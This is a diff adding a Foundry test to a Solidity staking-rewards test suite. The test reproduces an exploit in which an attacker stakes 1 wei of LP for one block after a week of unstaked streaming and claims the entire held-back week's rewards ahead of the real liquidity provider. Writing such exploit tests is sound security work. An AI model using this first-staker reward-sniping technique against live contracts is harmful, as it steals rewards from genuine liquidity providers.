@@ -111,6 +111,27 @@ contract LiquidityAndBuybackTest is LockingBase, UniswapV2Fixture {
         assertLe(incentives.earned(alice), 2_000 ether, "never more than streamed");
     }
 
+    /// @notice A week streams with nobody staked; an attacker stakes 1 wei of LP alone for one 12-second block
+    /// and takes the whole held-back week, ahead of the real LP who arrives in the next block.
+    function test_Exploit_firstStakerTakesIdleStream() public {
+        uint256 lpBalance = lp.balanceOf(alice);
+        vm.prank(alice);
+        lp.transfer(carol, lpBalance - 1); // alice (attacker) keeps 1 wei of LP, carol is the real LP
+        vm.prank(carol);
+        lp.approve(address(incentives), type(uint256).max);
+        _fundLp(2_419_200 ether); // 1 QER per second for 4 weeks
+        vm.warp(T0 + WEEK); // 604,800 QER streamed while nobody was staked
+        vm.prank(alice);
+        incentives.stake(1);
+        vm.warp(T0 + WEEK + 12);
+        vm.prank(carol);
+        incentives.stake(lpBalance - 1);
+        vm.prank(alice);
+        uint256 paid = incentives.claim();
+        // 604,800 held back + 12 s alone: the attacker's 1 wei of LP, staked one block, takes 604,812 QER.
+        assertEq(paid, 604_812 ether, "attacker takes the idle week");
+    }
+
     function test_RevertWhen_withdrawAboveStake() public {
         vm.prank(alice);
         incentives.stake(1 ether);
